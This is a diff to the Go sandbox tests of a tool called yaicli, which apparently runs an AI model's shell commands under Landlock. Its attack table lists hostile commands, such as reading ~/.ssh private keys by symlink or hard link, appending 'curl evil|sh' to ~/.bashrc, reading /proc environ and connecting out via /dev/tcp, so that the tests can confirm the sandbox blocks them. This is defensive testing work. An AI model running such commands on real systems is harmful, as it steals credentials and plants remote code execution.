@@ -4,12 +4,14 @@ package main
 
 import (
 	"context"
+	"errors"
+	"fmt"
 	"io"
+	"io/fs"
 	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
-	"runtime"
 	"slices"
 	"strconv"
 	"strings"
@@ -35,9 +37,10 @@ type fencedRun struct {
 func sandboxHome(t *testing.T) *config {
 	t.Helper()
 	if landlockABI() < 1 {
-		t.Skip("no Landlock in this kernel")
+		skipWithout(t, "Landlock", "no Landlock in this kernel")
 	}
-	base, err := os.MkdirTemp(".", ".sandboxtest-")
+	gocache, _ := exec.Command("go", "env", "GOCACHE").Output()
+	base, err := os.MkdirTemp(fencedReadOnlyDir(t, strings.TrimSpace(string(gocache))), ".sandboxtest-")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -56,7 +59,6 @@ func sandboxHome(t *testing.T) *config {
 	// holding a sensitive place is granted only child by child (go build
 	// makes its work directory right in TMPDIR).
 	tmp := t.TempDir()
-	gocache, _ := exec.Command("go", "env", "GOCACHE").Output()
 	env := []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "SHELL=/bin/sh", "GOCACHE=" + strings.TrimSpace(string(gocache)),
 		"GOTOOLCHAIN=local", "GOFLAGS=", "TMPDIR=" + tmp, "OPENAI_API_KEY=sk-sandboxtest-0123456789abcdef"}
 	cfg, err := loadConfig(configSources{env: envLookup(env), home: home, workDir: ws, environ: env, cacheDir: filepath.Join(home, ".cache"),
@@ -65,6 +67,50 @@ func sandboxHome(t *testing.T) *config {
 		t.Fatal(err)
 	}
 	return cfg
+}
+
+// fencedReadOnlyDir is a directory of this user's to make the fake home
+// in that a fenced command may not write to: the package directory, unless
+// the clone is where every fenced command writes (under /tmp, TMPDIR or a
+// build cache), then the user's cache or home directory. The places are the
+// sandbox's own, asked of newSandbox, not a copy of its list. Without such a
+// directory the attacks could not fail, so the test is skipped by name.
+func fencedReadOnlyDir(t *testing.T, gocache string) string {
+	t.Helper()
+	env := append(os.Environ(), "GOCACHE="+gocache)
+	open := newSandbox(sandboxOptions{workDir: "/", environ: env}, "").write // "/": no workspace, only what every command may write
+	for i, d := range open {
+		open[i] = resolvePathOf(d)
+	}
+	wd, _ := os.Getwd()
+	candidates := []string{wd}
+	if d, err := os.UserCacheDir(); err == nil {
+		candidates = append(candidates, d)
+	}
+	if d, err := os.UserHomeDir(); err == nil {
+		candidates = append(candidates, d)
+	}
+	for _, d := range candidates {
+		if r := resolvePathOf(d); !insideAny(r, open) && unix.Access(r, unix.W_OK) == nil {
+			return r
+		}
+	}
+	skipWithout(t, "a directory outside /tmp", fmt.Sprintf("no writable directory among %v lies outside what every fenced command may write (%v)", candidates, open))
+	return ""
+}
+
+// mayPtrace reports whether this process holds CAP_SYS_PTRACE (bit 19 of
+// /proc/self/status's CapEff), which reading the /proc files of a
+// non-dumpable process of the same user takes.
+func mayPtrace() bool {
+	b, _ := os.ReadFile("/proc/self/status")
+	for _, line := range strings.Split(string(b), "\n") {
+		if v, ok := strings.CutPrefix(line, "CapEff:"); ok {
+			caps, err := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
+			return err == nil && caps&(1<<unix.CAP_SYS_PTRACE) != 0
+		}
+	}
+	return false
 }
 
 // envLookup reads a variable from environ.
@@ -82,7 +128,7 @@ func runFenced(t *testing.T, cfg *config, command string, fenced bool) fencedRun
 		ctx = withAsked(ctx)
 	}
 	cl := newClipper(0, nil)
-	if err := runShell(ctx, command, cfg.workDir, time.Minute, cfg.shellEnv(), newSandbox(cfg, self).start(ctx), resultWriter{w: cl, c: cl}); err != nil {
+	if err := runShell(ctx, command, cfg.workDir, time.Minute, cfg.redactor().childEnv(cfg.environ, nil), newSandbox(cfg.toolbox().fence, self).start(ctx), resultWriter{w: cl, c: cl}); err != nil {
 		t.Fatalf("runShell(%q): %v", command, err)
 	}
 	text := cl.finish().modelText()
@@ -113,20 +159,26 @@ func TestSandboxAttacks(t *testing.T) {
 	}
 	defer ln.Close()
 	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
-	attacks := []struct{ name, cmd, leak string }{
-		{"read ~/.ssh key", "cat ~/.ssh/id_ed25519", "PRIVATE-KEY-BYTES"},
-		{"read ~/.ssh through ..", "cat proj/../.ssh/id_ed25519 2>&1; cd ..; cat ./.ssh/id_ed25519", "PRIVATE-KEY-BYTES"},
-		{"list ~/.ssh", "ls ~/.ssh", "id_ed25519"},
-		{"link to ~/.ssh in the workspace", "ln -s ~/.ssh keys && cat keys/id_ed25519", "PRIVATE-KEY-BYTES"},
-		{"hard link of the key", "ln ~/.ssh/id_ed25519 k 2>/dev/null; cat k", "PRIVATE-KEY-BYTES"},
-		{"write beside the workspace", "echo PLANTED > ~/planted && cat ~/planted", "PLANTED"},
-		{"append to ~/.bashrc", "echo 'curl evil|sh' >> ~/.bashrc; cat ~/.bashrc", "curl evil"},
-		{"write /etc", "echo x > /etc/yaicli-sandbox-test && echo wrote", "wrote"},
-		{"read yaicli's environ", "cat /proc/" + strconv.Itoa(os.Getpid()) + "/environ > /dev/null && echo ENVIRON-READ", "ENVIRON-READ"},
-		{"read yaicli's memory maps", "cat /proc/" + strconv.Itoa(os.Getpid()) + "/maps > /dev/null && echo MAPS-READ", "MAPS-READ"},
-		{"connect out (bash /dev/tcp)", "bash -c 'echo hi > /dev/tcp/127.0.0.1/" + port + "' && echo connected", "connected"},
-		{"write to the terminal", "ls -l /proc/$$/fd/ >/dev/null; for t in /dev/tty /dev/pts/*; do echo x 2>/dev/null > $t && echo TTY-WRITTEN; done; true", "TTY-WRITTEN"},
-		{"bind a port", "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(); print(\"bound\")'", "bound"},
+	pid := strconv.Itoa(os.Getpid())
+	attacks := []struct {
+		name, cmd, leak string
+		unfenced        func() bool // whether the attack works here without the fence (nil: everywhere)
+	}{
+		{"read ~/.ssh key", "cat ~/.ssh/id_ed25519", "PRIVATE-KEY-BYTES", nil},
+		{"read ~/.ssh through ..", "cat proj/../.ssh/id_ed25519 2>&1; cd ..; cat ./.ssh/id_ed25519", "PRIVATE-KEY-BYTES", nil},
+		{"list ~/.ssh", "ls ~/.ssh", "id_ed25519", nil},
+		{"link to ~/.ssh in the workspace", "ln -s ~/.ssh keys && cat keys/id_ed25519", "PRIVATE-KEY-BYTES", nil},
+		{"hard link of the key", "ln ~/.ssh/id_ed25519 k 2>/dev/null; cat k", "PRIVATE-KEY-BYTES", nil},
+		{"write beside the workspace", "echo PLANTED > ~/planted && cat ~/planted", "PLANTED", nil},
+		{"append to ~/.bashrc", "echo 'curl evil|sh' >> ~/.bashrc; cat ~/.bashrc", "curl evil", nil},
+		{"write /etc", "echo x > /etc/yaicli-sandbox-test && echo wrote", "wrote", func() bool { return unix.Access("/etc", unix.W_OK) == nil }},
+		// A non-dumpable process's /proc files take CAP_SYS_PTRACE to read:
+		// root has it, another user (or a container's root without it) not.
+		{"read yaicli's environ", "cat /proc/" + pid + "/environ > /dev/null && echo ENVIRON-READ", "ENVIRON-READ", mayPtrace},
+		{"read yaicli's memory maps", "cat /proc/" + pid + "/maps > /dev/null && echo MAPS-READ", "MAPS-READ", mayPtrace},
+		{"connect out (bash /dev/tcp)", "bash -c 'echo hi > /dev/tcp/127.0.0.1/" + port + "' && echo connected", "connected", nil},
+		{"write to the terminal", "ls -l /proc/$$/fd/ >/dev/null; for t in /dev/tty /dev/pts/*; do echo x 2>/dev/null > $t && echo TTY-WRITTEN; done; true", "TTY-WRITTEN", nil},
+		{"bind a port", "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(); print(\"bound\")'", "bound", nil},
 	}
 	t.Cleanup(func() { os.Remove("/etc/yaicli-sandbox-test"); os.Remove(filepath.Join(home, "planted")) })
 	unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0) // as yaicli's main makes itself; the test process stands for yaicli
@@ -135,7 +187,7 @@ func TestSandboxAttacks(t *testing.T) {
 		t.Run(a.name, func(t *testing.T) {
 			if prog := strings.Fields(a.cmd)[0]; prog == "python3" || prog == "bash" {
 				if _, err := exec.LookPath(prog); err != nil {
-					t.Skipf("no %s here", prog)
+					skipWithout(t, prog, "no "+prog+" here")
 				}
 			}
 			if got := runFenced(t, cfg, a.cmd, true); strings.Contains(got.Output, a.leak) {
@@ -144,12 +196,59 @@ func TestSandboxAttacks(t *testing.T) {
 			if strings.Contains(a.name, "hard link") || strings.Contains(a.name, "terminal") || strings.Contains(a.name, "through ..") && os.Getuid() != 0 {
 				return // unfenced, these work only in some setups; the fenced half is what matters
 			}
+			if a.unfenced != nil && !a.unfenced() {
+				t.Logf("unfenced, %q cannot work for uid %d here: only the fenced half is checked", a.name, os.Geteuid())
+				return
+			}
 			if got := runFenced(t, cfg, a.cmd, false); !strings.Contains(got.Output, a.leak) {
 				t.Errorf("unfenced %q printed %q, want %q: the attack does not work even without the sandbox", a.cmd, got.Output, a.leak)
 			}
 			os.Remove(filepath.Join(cfg.workDir, "keys"))
 			os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o600)
 		})
+	}
+}
+
+// TestFenceKeepsOutOwnPlaces: a fenced command reads none of yaicli's own
+// places, listed once by config.toolbox (ownPlaces): its configuration,
+// the permissions file, the audit log, a saved chat and MCP_CONFIG, here
+// all in the workspace, which it otherwise reads and writes; unfenced it
+// reads each (so the test can fail). The fs tools ask before reading the
+// first four.
+func TestFenceKeepsOutOwnPlaces(t *testing.T) {
+	cfg := sandboxHome(t)
+	in := func(rel string) string { return filepath.Join(cfg.workDir, "yai", rel) }
+	cfg.configPath, cfg.ToolPermissionsFile, cfg.ToolAuditLog = in("conf/config.ini"), in("perms.json"), in("audit.log")
+	cfg.ChatHistoryDir, cfg.MCPConfig = in("chats"), in("servers.json")
+	perm := newPermissions(cfg.toolbox().perms, cfg.redactor(), func(w string) { t.Error(w) })
+	places := []struct {
+		name, path string
+		asked      bool
+	}{
+		{"config", cfg.configPath, true}, {"permissions file", cfg.ToolPermissionsFile, true}, {"audit log", cfg.ToolAuditLog, true},
+		{"saved chat", filepath.Join(cfg.ChatHistoryDir, "chat.json"), true}, {"MCP_CONFIG", cfg.MCPConfig, true},
+	}
+	for _, p := range places {
+		if err := os.MkdirAll(filepath.Dir(p.path), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		os.WriteFile(p.path, []byte("OWN-PLACE-BYTES\n"), 0o600)
+		if got := runFenced(t, cfg, "cat "+p.path, true); strings.Contains(got.Output, "OWN-PLACE-BYTES") {
+			t.Errorf("fenced cat of the %s (%s) printed %q", p.name, p.path, got.Output)
+		}
+		if got := runFenced(t, cfg, "cat "+p.path, false); !strings.Contains(got.Output, "OWN-PLACE-BYTES") {
+			t.Errorf("unfenced cat of the %s printed %q: the place is not there", p.name, got.Output)
+		}
+		if rc := perm.classify(p.path); p.asked && (rc.free || rc.sensitive == "") {
+			t.Errorf("classify(%s) = free %v, sensitive %q: the fs tools would read the %s unasked", p.path, rc.free, rc.sensitive, p.name)
+		}
+	}
+	// A place given as "~/…" is the same place for the fence as for the fs tools.
+	cfg.ToolAuditLog = "~/audit-in-home.log"
+	inHome := filepath.Join(cfg.homeDir, "audit-in-home.log")
+	os.WriteFile(inHome, []byte("OWN-PLACE-BYTES\n"), 0o600)
+	if got := runFenced(t, cfg, "cat "+inHome, true); strings.Contains(got.Output, "OWN-PLACE-BYTES") {
+		t.Errorf("TOOL_AUDIT_LOG=~/audit-in-home.log: a fenced cat of %s printed %q", inHome, got.Output)
 	}
 }
 
@@ -270,7 +369,7 @@ func TestEveryDescendantEnds(t *testing.T) {
 					out.cancel = cancel
 				}
 				cmd := strings.Replace(c.cmd, "1000.%d", marker, 1)
-				if err := runShell(ctx, cmd, cfg.workDir, c.timeout, cfg.shellEnv(), newSandbox(cfg, self).start(ctx), out); err != nil {
+				if err := runShell(ctx, cmd, cfg.workDir, c.timeout, cfg.redactor().childEnv(cfg.environ, nil), newSandbox(cfg.toolbox().fence, self).start(ctx), out); err != nil {
 					t.Fatal(err)
 				}
 				if left := leftWith(marker); len(left) > 0 {
@@ -302,12 +401,16 @@ func TestKeyNotInEnvironBlock(t *testing.T) {
 	}
 	defer func() { stdin.Close(); cmd.Process.Kill(); cmd.Wait() }()
 	var block string
-	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); {
-		b, _ := os.ReadFile("/proc/" + strconv.Itoa(cmd.Process.Pid) + "/environ")
+	for deadline := time.Now().Add(e2eTimeout); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
+		b, err := os.ReadFile("/proc/" + strconv.Itoa(cmd.Process.Pid) + "/environ")
+		if errors.Is(err, fs.ErrPermission) {
+			// main made yaicli non-dumpable: no process of this user reads
+			// its environ now; root can, and only root sees the blanking.
+			skipWithout(t, "root", "yaicli's environ is unreadable to uid "+strconv.Itoa(os.Geteuid())+" (non-dumpable); as root the test checks the keys are blanked")
+		}
 		if block = string(b); strings.Contains(block, "OPENAI_API_KEY=xxxx") {
 			break
 		}
-		runtime.Gosched()
 	}
 	for _, k := range keys {
 		if _, v, _ := strings.Cut(k, "="); strings.Contains(block, v) {
@@ -324,7 +427,7 @@ func TestKeyNotInEnvironBlock(t *testing.T) {
 // server's env names it.
 func TestChildrenGetNoProviderKey(t *testing.T) {
 	cfg := sandboxHome(t)
-	environ := append(cfg.shellEnv(), "ANTHROPIC_API_KEY=sk-ant-other", "GEMINI_API_KEY=g-other", "HF_TOKEN=hf_other", "API_KEY=plain")
+	environ := append(cfg.redactor().childEnv(cfg.environ, nil), "ANTHROPIC_API_KEY=sk-ant-other", "GEMINI_API_KEY=g-other", "HF_TOKEN=hf_other", "API_KEY=plain")
 	cases := []struct {
 		name string
 		keep map[string]string
@@ -334,7 +437,7 @@ func TestChildrenGetNoProviderKey(t *testing.T) {
 		{"mcp naming GEMINI_API_KEY", map[string]string{"GEMINI_API_KEY": "g-other"}, []string{"GEMINI_API_KEY"}},
 	}
 	for _, c := range cases {
-		got := strings.Join(cfg.childEnv(environ, c.keep), "\n")
+		got := strings.Join(cfg.redactor().childEnv(environ, c.keep), "\n")
 		for _, v := range providerKeyVars() {
 			if strings.Contains(got, "\n"+v+"=") && !slices.Contains(c.want, v) {
 				t.Errorf("%s: child environment holds %s", c.name, v)
@@ -367,11 +470,11 @@ func TestSandboxFallback(t *testing.T) {
 		mode    string
 		refused bool
 	}{{"auto", false}, {"strict", true}, {"off", false}} {
-		s := newSandbox(cfg, self)
+		s := newSandbox(cfg.toolbox().fence, self)
 		s.mode, s.abi = tc.mode, 0
 		st := s.start(context.Background())
 		var out strings.Builder
-		err := runShell(context.Background(), "cat ~/.ssh/id_ed25519", cfg.workDir, time.Minute, cfg.shellEnv(), st, &out)
+		err := runShell(context.Background(), "cat ~/.ssh/id_ed25519", cfg.workDir, time.Minute, cfg.redactor().childEnv(cfg.environ, nil), st, &out)
 		if refused := err != nil; refused != tc.refused || st.fence != nil {
 			t.Errorf("SANDBOX=%s without Landlock: err %v, fence %v; want refused %v and no fence", tc.mode, err, st.fence, tc.refused)
 		}
@@ -418,8 +521,7 @@ func TestSandboxWidened(t *testing.T) {
 // BenchmarkSandboxSpec is the work yaicli does before each fenced command:
 // reading the tree to grant it child by child around the denied places.
 func BenchmarkSandboxSpec(b *testing.B) {
-	cfg := &config{Sandbox: "auto", homeDir: os.Getenv("HOME"), workDir: ".", ChatHistoryDir: "/nonexistent/chats", environ: os.Environ()}
-	s := newSandbox(cfg, "")
+	s := newSandbox(sandboxOptions{mode: "auto", homeDir: os.Getenv("HOME"), workDir: ".", private: []string{"/nonexistent/chats"}, environ: os.Environ()}, "")
 	for b.Loop() {
 		s.spec()
 	}
@@ -454,13 +556,17 @@ func TestDescendantsEndWhenYaicliIsKilled(t *testing.T) {
 	}
 	cmd.Process.Kill()
 	cmd.Wait()
+	// Promised within signalBound; allowed hangBound, which tells ending
+	// from hanging on a machine busy with other runs, the time logged.
 	var left []string
-	for deadline := time.Now().Add(signalBound); ; time.Sleep(10 * time.Millisecond) {
+	start := time.Now()
+	for deadline := start.Add(hangBound); ; time.Sleep(10 * time.Millisecond) {
 		if left = leftWith(marker); len(left) == 0 || time.Now().After(deadline) {
 			break
 		}
 	}
 	if len(left) > 0 {
-		t.Errorf("left running after yaicli was killed: %v", left)
+		t.Errorf("left running %v after yaicli was killed: %v", hangBound, left)
 	}
+	t.Logf("the child ended %v after yaicli was killed (promised: %v)", time.Since(start).Round(time.Millisecond), signalBound)
 }
